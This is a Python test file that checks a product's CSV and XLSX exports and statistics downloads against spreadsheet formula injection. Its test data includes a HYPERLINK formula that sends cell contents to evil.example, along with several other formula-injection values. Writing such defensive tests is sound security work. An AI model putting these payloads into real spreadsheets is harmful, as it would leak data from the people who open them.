"""No cell of a CSV or XLSX the product writes can run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from atbalsts.core.spreadsheets import FORMULA_STARTS, safe_cell, safe_row
from atbalsts.exports.archive import Watermark, write_archive
from atbalsts.statistics.downloads import as_csv, as_xlsx
from atbalsts.statistics.tables import Shown
from tests.exports.conftest import open_archive

LEAK = '=HYPERLINK("http://evil.example/?leak="&C4&D4,"Anna")'
HOSTILE = [LEAK, "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1+1"]
PRODUCT = Path(__file__).resolve().parents[2] / "atbalsts"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_a_spreadsheet_would_run_is_shown_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "2026-10-05", "", "a=b", "x-1", "'quoted"])
def test_other_text_is_left_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert safe_row([-3, 2.5, None, "-3"]) == [-3, 2.5, None, "'-3"]


def test_every_cell_of_an_export_archive_is_neutralised(tmp_path: Path) -> None:
    watermark = Watermark("id", "=user", "=Full Name", "@org", "2026-12-07")
    path = tmp_path / "export.zip"

    write_archive(
        path,
        passphrase="secret",
        csv_name="rows.csv",
        header=["=header", "name"],
        rows=[HOSTILE, ["Anna", "Bērziņa"]],
        watermark=watermark,
        title="Test",
    )

    with open_archive(path) as archive:
        archive.setpassword(b"secret")
        rows = list(csv.reader(io.StringIO(archive.read("rows.csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert rows[1] == ["'=header", "name"]
    assert rows[2] == ["'" + value for value in HOSTILE]
    assert rows[3] == ["Anna", "Bērziņa"]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_every_cell_of_the_statistics_files_is_neutralised() -> None:
    lines: list[list[str | Shown]] = [["=watermark"], ["legend"], [*HOSTILE, 7]]

    csv_rows = list(csv.reader(io.StringIO(as_csv(iter(lines)).decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(as_xlsx(iter(lines)))).active
    assert sheet is not None
    xlsx_rows = [list(row) for row in sheet.iter_rows(values_only=True)]

    assert csv_rows[0] == ["'=watermark"]
    assert csv_rows[2] == [*("'" + value for value in HOSTILE), "7"]
    # XML stores a carriage return as a line feed.
    expected = [*("'" + value.replace("\r", "\n") for value in HOSTILE), 7]
    assert xlsx_rows[2][: len(HOSTILE) + 1] == expected
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_every_module_that_writes_a_spreadsheet_neutralises_its_cells() -> None:
    writers = re.compile(r"csv\.writer\(|Workbook\(")
    unsafe = [
        str(path.relative_to(PRODUCT))
        for path in PRODUCT.rglob("*.py")
        if writers.search(text := path.read_text()) and "safe_row" not in text
    ]
    assert not unsafe, f"spreadsheet writers without safe_row: {unsafe}"
